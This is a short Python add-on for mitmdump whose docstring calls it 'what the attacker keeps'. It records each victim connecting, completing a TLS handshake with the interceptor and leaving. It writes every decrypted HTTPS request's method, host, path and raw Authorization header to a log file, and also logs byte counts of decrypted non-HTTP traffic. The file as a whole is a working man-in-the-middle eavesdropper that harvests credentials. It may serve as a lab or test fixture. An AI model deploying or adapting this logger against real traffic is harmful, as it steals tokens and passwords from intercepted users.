"""What the attacker keeps: an add-on for mitmdump (`mitmdump -s eavesdropper.py`), which runs in its environment.

Prints nothing; writes `decrypted.log`, a line for whatever TLS was taken off of, and `connections.log`, a line for
each victim that came and each that left. Both in the working directory.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

DECRYPTED = Path("decrypted.log")
CONNECTIONS = Path("connections.log")


def _note(path: Path, text: str) -> None:
    with path.open("a", encoding="utf-8") as file:
        file.write(f"{text}\n")


def client_connected(client: Any) -> None:
    """A victim is on the line."""
    _note(CONNECTIONS, "came")


def tls_established_client(data: Any) -> None:
    """The victim finished a TLS handshake with the attacker: whatever it sends now can be read."""
    _note(CONNECTIONS, "handshake")


def client_disconnected(client: Any) -> None:
    """And off again."""
    _note(CONNECTIONS, "left")


def requestheaders(flow: Any) -> None:
    """A decrypted request: written as soon as its head is there, whether or not the rest follows."""
    request = flow.request
    token = request.headers.get("Authorization", "-")
    _note(DECRYPTED, f"{request.method} https://{request.host}:{request.port}{request.path}  Authorization: {token}")


def tcp_message(flow: Any) -> None:
    """Decrypted bytes that are not HTTP."""
    _note(DECRYPTED, f"{len(flow.messages[-1].content)} bytes")
